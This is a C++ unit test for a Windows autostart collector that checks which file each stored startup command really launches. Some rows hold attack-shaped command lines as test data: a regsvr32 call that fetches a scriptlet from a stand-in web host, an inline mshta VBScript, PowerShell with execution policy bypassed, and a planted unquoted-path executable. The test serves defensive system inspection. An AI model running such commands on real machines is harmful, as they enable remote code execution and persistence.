// Stored commands of real-world shapes resolved to the file they run.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "base/text.h"
#include "collectors/autostart_command.h"

namespace sysinfo {
namespace {

// The files the fake machine has; names compare ignoring letter case, as on Windows.
const std::set<std::string> kFiles{"C:\\Program Files\\Vendor\\app.exe",
                                   "C:\\Program Files\\Other.exe",
                                   "C:\\Windows\\System32\\SecurityHealthSystray.exe",
                                   "C:\\Windows\\System32\\svchost.exe",
                                   "C:\\Windows\\System32\\drivers\\acpi.sys",
                                   "C:\\Windows\\System32\\drivers\\disk.sys",
                                   "C:\\Tools\\filter.sys",
                                   "C:\\Windows\\explorer.exe",
                                   "C:\\Windows\\System32\\notepad.exe",
                                   "C:\\Windows\\System32\\rundll32.exe",
                                   "C:\\Windows\\System32\\shell32.dll",
                                   "C:\\Windows\\System32\\cmd.exe",
                                   "C:\\Scripts\\logon.cmd",
                                   "C:\\Tools\\tray.exe",
                                   "C:\\My Tools\\run.bat",
                                   "C:\\Windows\\System32\\wscript.exe",
                                   "C:\\Windows\\System32\\cscript.exe",
                                   "C:\\Scripts\\inventory.js",
                                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                   "C:\\ProgramData\\up date.ps1",
                                   "C:\\Windows\\System32\\mshta.exe",
                                   "C:\\Tools\\app.hta",
                                   "C:\\Windows\\System32\\regsvr32.exe",
                                   "C:\\Windows\\System32\\scrobj.dll",
                                   "C:\\Tools\\name.exe ",
                                   "C:\\Tools\\con.exe",
                                   "C:\\Users\\me\\AppData\\Roaming\\a b\\e.dll",
                                   "C:\\Users\\me\\AppData\\Roaming\\x y\\job.vbs"};

bool IsFile(const std::string& path) {
  for (const std::string& file : kFiles) {
    if (EqualsIgnoreCase(file, path)) return true;
  }
  return false;
}

std::string Expand(std::string_view text) {
  std::string expanded(text);
  for (auto [name, value] : {std::pair{"%SystemRoot%", "C:\\Windows"},
                             {"%windir%", "C:\\Windows"},
                             {"%ProgramFiles%", "C:\\Program Files"}}) {
    for (auto at = expanded.find(name); at != std::string::npos; at = expanded.find(name)) {
      expanded.replace(at, std::string_view(name).size(), value);
    }
  }
  return expanded;
}

struct Row {
  std::string_view command;
  std::string_view image;
};

TEST(AutostartCommand, ResolvesTheFileEachCommandShapeRuns) {
  const CommandContext context{"C:\\Windows", Expand, IsFile};
  // clang-format off
  constexpr Row kRows[] = {
      {"\"C:\\Program Files\\Vendor\\app.exe\" /background", "C:\\Program Files\\Vendor\\app.exe"},
      {"\"%ProgramFiles%\\Vendor\\app.exe\"", "C:\\Program Files\\Vendor\\app.exe"},
      {"C:\\Program Files\\Vendor\\app.exe /background", "C:\\Program Files\\Vendor\\app.exe"},
      // Windows runs the shortest prefix that names a file: the planted one.
      {"C:\\Program Files\\Other App\\svc.exe -k", "C:\\Program Files\\Other.exe"},
      {"C:\\Program Files\\Vendor\\app -x", "C:\\Program Files\\Vendor\\app.exe"},
      {"%SystemRoot%\\system32\\SecurityHealthSystray.exe", "C:\\Windows\\system32\\SecurityHealthSystray.exe"},
      {"%windir%\\System32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\svchost.exe"},
      {"\\SystemRoot\\System32\\drivers\\acpi.sys", "C:\\Windows\\System32\\drivers\\acpi.sys"},
      {"System32\\DRIVERS\\disk.sys", "C:\\Windows\\System32\\DRIVERS\\disk.sys"},
      {"\\??\\C:\\Tools\\filter.sys", "C:\\Tools\\filter.sys"},
      {"\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"},
      {"explorer.exe", "C:\\Windows\\explorer.exe"},
      {"notepad", "C:\\Windows\\System32\\notepad.exe"},
      {"rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\System32\\shell32.dll"},
      {"rundll32 \"C:\\Users\\me\\AppData\\Roaming\\a b\\e.dll\",Start", "C:\\Users\\me\\AppData\\Roaming\\a b\\e.dll"},
      {"C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\gone.dll,#1", "C:\\ProgramData\\gone.dll"},
      {"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe"},
      {"cmd /c \"C:\\Scripts\\logon.cmd\"", "C:\\Scripts\\logon.cmd"},
      {"cmd.exe /d /c start \"\" /min /d C:\\Tools \"C:\\Tools\\tray.exe\" -q", "C:\\Tools\\tray.exe"},
      {"C:\\Windows\\System32\\cmd.exe /C \"\"C:\\My Tools\\run.bat\" arg\"", "C:\\My Tools\\run.bat"},
      {"cmd /k dir", "C:\\Windows\\System32\\cmd.exe"},
      {"wscript.exe //B //Nologo \"C:\\Users\\me\\AppData\\Roaming\\x y\\job.vbs\"", "C:\\Users\\me\\AppData\\Roaming\\x y\\job.vbs"},
      {"cscript C:\\Scripts\\inventory.js /quiet", "C:\\Scripts\\inventory.js"},
      {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\up date.ps1\" -Force", "C:\\ProgramData\\up date.ps1"},
      {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -Command \"Get-Process\"", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
      {"mshta.exe vbscript:Execute(\"CreateObject(\"\"x\"\")\")", "C:\\Windows\\System32\\mshta.exe"},
      {"mshta \"C:\\Tools\\app.hta\"", "C:\\Tools\\app.hta"},
      {"regsvr32 /s /n /i:http://example.invalid/x scrobj.dll", "C:\\Windows\\System32\\scrobj.dll"},
      {"C:\\Missing Dir\\gone.exe /x", "C:\\Missing Dir\\gone.exe"},
      {"C:\\Missing\\tool -x", "C:\\Missing\\tool"},
      {"\"C:\\Tools\\name.exe \" -q", "C:\\Tools\\name.exe "},
      {"C:\\Tools\\con.exe", "C:\\Tools\\con.exe"},
      {"\"C:\\Unclosed\\path.exe -x", "C:\\Unclosed\\path.exe -x"},
      // Hosts within hosts are followed only so deep.
      {"cmd /c cmd /c cmd /c cmd /c cmd /c C:\\Tools\\tray.exe", "C:\\Windows\\System32\\cmd.exe"},
      {"  \t ", ""},
  };
  // clang-format on
  for (const Row& row : kRows) {
    EXPECT_EQ(ResolveCommandImage(row.command, context), row.image) << row.command;
  }
}

}  // namespace
}  // namespace sysinfo
